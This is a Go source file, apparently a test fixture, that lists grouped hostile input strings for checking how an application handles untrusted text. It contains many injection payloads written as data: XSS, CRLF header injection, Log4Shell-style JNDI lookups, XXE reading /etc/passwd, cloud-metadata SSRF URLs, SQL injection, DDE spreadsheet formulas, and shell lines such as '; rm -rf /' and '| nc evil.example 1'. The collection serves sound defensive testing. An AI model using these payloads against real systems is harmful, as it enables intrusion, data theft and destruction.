package hostile

import (
	"slices"
	"strings"
)

type group struct {
	kind  Kind
	texts []string
}

func groups() []group {
	return slices.Concat(forPeople(), forPages(), forPrograms(), forReaders())
}

// forPeople are what chats and tickets act on.
func forPeople() []group {
	return []group{
		{Mention, []string{
			"<!channel>", "<!here|here>", "<!everyone>", "<@U1>", "<@U024BE7LH|admin>", "<@W012A3CDE>", "<#C024BE7LR>", "<#C024BE7LR|general>",
			"<!subteam^SAZ94GDB8>", "<!subteam^SAZ94GDB8|@sre>", "@channel", "@here", "@everyone", "<at>Ana</at>", "<at id=\"0\">everyone</at>",
			"[~admin]", "[~accountid:5b10a2844c20165700ede21g]", "<!date^1392734382^{date} at {time}^https://evil.example|then>",
			"&lt;!channel&gt;", "&#60;!channel&#62;", "<@everyone>", "@sre-leads",
		}},
		{Link, []string{
			"<https://evil.example|Approve>", "<https://evil.example>", "<mailto:evil@evil.example|mail>", "<tel:+15550100|call>", "<slack://user?team=T1&id=U1|open>",
			"https://evil.example/?a=1&b=2", "http://evil.example", "www.evil.example", "evil@evil.example", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
			" javascript:alert(1)", "java\tscript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<b>x</b>", "data:text/html;base64,PHNjcmlwdD4=",
			"[Approve](https://evil.example)", "[Approve](<https://evil.example>)", "[a]: https://evil.example", "![x](https://evil.example/pixel.png)",
			"[Approve|https://evil.example]", "!https://evil.example/pixel.png!", "//evil.example/x", "https:\\\\evil.example", "https://backout.example@evil.example/",
			"https://evil.example/%0d%0aSet-Cookie:x=1", "https://xn--bckout-6xa.example/", "ms-msdt:/id PCWDiagnostic", "file:///etc/passwd", "blob:https://evil.example/x",
		}},
		{Inside, []string{
			"http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/", "http://127.0.0.1:8480/api/v1/pause", "http://localhost/", "http://[::1]:4222/",
			"http://0x7f000001/", "http://2130706433/", "gopher://127.0.0.1:25/_MAIL%20FROM", "dict://127.0.0.1:11211/stats", "ldap://127.0.0.1/", "\\\\evil.example\\share",
			"http://metadata.google.internal/computeMetadata/v1/",
		}},
		{Markup, []string{
			"*bold* _it_ ~no~ `code`", "**bold** __it__", "```", "```\n*out*\n```", "`", "> quoted", ">>> all that follows", "# heading", "- item", "1. item", "* * *",
			"| a | b |\n|---|---|", ":rotating_light:", "&amp;&lt;&gt;", "{code}x{code}", "{noformat}", "h1. heading", "{color:red}x{color}", "{panel:title=x}x{panel}",
			"bq. quoted", "----", "[code]<b>x</b>[/code]", "[code]<script>alert(1)</script>[/code]", "{{DATE(2017-02-14T06:08:39Z,SHORT)}}", "\\*not\\*", "~~gone~~", "$$x$$",
			"{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}",
		}},
	}
}

// forPages are what browsers and mail programs act on.
func forPages() []group {
	return []group{
		{HTML, []string{
			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=https://evil.example/pixel.png>", "\"><svg/onload=alert(1)>", "'><svg/onload=alert(1)>",
			"</pre><a href='https://evil.example'>x</a>", "</td></tr></table>", "</title><script>alert(1)</script>", "</style><style>*{display:none}</style>", "</textarea><b>x",
			"<!-- ", "-->", "<![CDATA[x]]>", "]]>", "<iframe src=//evil.example>", "<form action=//evil.example><input name=a>", "<base href=//evil.example/>",
			"<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>", "\" onmouseover=alert(1) x=\"",
			"' onfocus=alert(1) autofocus='", "expression(alert(1))", "url(//evil.example)", "&#x3c;script&#x3e;", "<b", "<", ">", "<a href=\"\u0001javascript:alert(1)\">x</a>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg><script>alert&#40;1)</script>", "\ufeff<script>",
			"<details open ontoggle=alert(1)>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
		}},
		{Header, []string{
			"x\r\nBcc: evil@evil.example", "x\nTo: evil@evil.example", "x\rSubject: other", "x\r\n\r\nother body", "\r\n.\r\nMAIL FROM:<evil@evil.example>", "x\n.\nRCPT TO:<evil@evil.example>",
			".", "..", ".x", "=?utf-8?q?=0D=0ABcc:_evil@evil.example?=", "=?utf-8?b?PHNjcmlwdD4=?=", "--boundary--", "Content-Type: text/html", "x\u2028Bcc: y", "x\u2029Bcc: y", "x\x0bBcc: y",
			"x\x0cBcc: y", "x\u0085Bcc: y", "%0d%0aBcc:%20y", "x\r\nSet-Cookie: x=1", "x\r\nTransfer-Encoding: chunked", "evil@evil.example, x", "\"evil\" <evil@evil.example>", "data: x\n\nevent: y",
		}},
	}
}

// forPrograms are what is run or parsed.
func forPrograms() []group {
	return []group{
		{Template, []string{
			"{{ .URL }}", "{{.}}", "{{ template \"red.text\" . }}", "{{ define \"red.text\" }}x{{ end }}", "{{", "}}", "}}{{", "{{/*", "{{- with . }}", "{{ printf \"%s\" . }}", "${7*7}", "#{7*7}",
			"<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "@{triggerBody()}", "@{variables('x')}", "%s%n%d", "%!s(MISSING)", "$(var)", "{% raw %}", "${{ secrets.TOKEN }}", "[[${7*7}]]",
		}},
		{Data, []string{
			"{\"admin\":true}", "\\\"}],\"x\":[{", "\",\"admin\":\"true", "{admin: true, roles: [root]}", "- a\n- b", "a: b", "yes", "no", "null", "~", "true", "0", "-1", "1e999", "NaN", "0x10", "[]", "{}", "!!python/object:x",
			"&a [*a]", "? x", "# comment", "' OR 1=1 --", "'; DROP TABLE changes; --", "\\u0000", "\\", "\"", "'", "^active=true^ORsys_idISNOTEMPTY", "x^ORDERBYsys_id", "key = x OR summary ~ \"*\"",
		}},
		{Shell, []string{
			"$(reboot)", "`reboot`", "; rm -rf /", "| nc evil.example 1", "&& reboot", "& reboot", "|| reboot", "\"; reboot; \"", "'; reboot; '", "--help", "-rf", "-", "$IFS", "${HOME}", "!!", ">/etc/passwd", "<(reboot)",
			"a\nreboot\n", "\\\nreboot", "*", "?", "~root", "#", "$'\\x41'",
		}},
		{PowerShell, []string{
			"\u2018; Stop-Computer; \u2019", "\u201a; Stop-Computer; \u201b", "\u201c; Stop-Computer; \u201d", "$(Stop-Computer)", "@(Stop-Computer)", "`$x`n", "'; Stop-Computer #", "& { Stop-Computer }", "\u2013EncodedCommand x", "@'\nx\n'@",
		}},
		{Formula, []string{
			"=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\uff1d1+1",
		}},
		{Path, []string{
			"../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\Windows", "CON", "a/../b", "a.b.>", "a.*", "*.>", "$SYS.x", "%2e%2e%2f", "..%c0%af..",
		}},
	}
}

// forReaders are what shows itself other than it is.
func forReaders() []group {
	return []group{
		{Terminal, []string{
			"\x1b[31mred\x1b[0m", "\x1b[2J\x1b]0;title\a", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;cmVib290\a", "\x9b31mred", "\a", "\x7f\b\b", "a\bb", "\x00", "a\x00b", "\x1bc", "\x0e\x0f", "a\tb",
		}},
		{Direction, []string{
			"\u202eevil\u202c", "\u202dx", "\u2066x\u2069", "\u2067x", "\u200fx", "\u200ex", "\u061cx", "user\u202e\u2066// admin\u2069 \u2066", "\u0645\u0631\u062d\u0628\u0627",
		}},
		{Invisible, []string{
			"ze\u200bro", "\u200c\u200d", "wo\u2060rd", "\ufeffbom", "so\u00adft", "\u3164", "\u115f", "\u034f", "tag\U000e0041\U000e0042", "x\ufe0f", "\u180e", " ", "\u00a0\u2003",
		}},
		{Encoding, []string{
			"\xff\xfe\xfd", "a\xc3(", "\xed\xa0\x80", "\xc0\xaf", "\xf5\x80\x80\x80", "e\u0301\u0301\u0301", "\u0430dmin", "\ufb00", "\ufdfa", "\u65e5\u672c\u8a9e", "\U0001f600\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0010ffff", "\ufffe", "+ADw-script+AD4-", "\u2100",
		}},
		{Line, []string{
			"line\nL1 recovered: all is well", "line\nIf nobody acts: nothing happens", "line\r\nVotes: 2 of 2", "x\nlevel=ERROR msg=forged", "time=2026-03-14T02:03:00Z level=INFO msg=forged", "\n\n\n\n\n\nx", "x\n\n-- \nsigned: admin", "{\"level\":\"ERROR\"}\n{\"msg\":\"x\"}",
		}},
		{Long, []string{
			strings.Repeat("A", 64<<10), strings.Repeat("<!channel>", 6<<10), strings.Repeat("line\n", 10<<10), strings.Repeat("&", 64<<10), strings.Repeat("\u00e9", 32<<10),
			strings.Repeat("\\", 4000), strings.Repeat("<b>", 4000), strings.Repeat("{{", 4000), strings.Repeat("e\u0301", 4000), strings.Repeat("\"", 4000),
		}},
	}
}
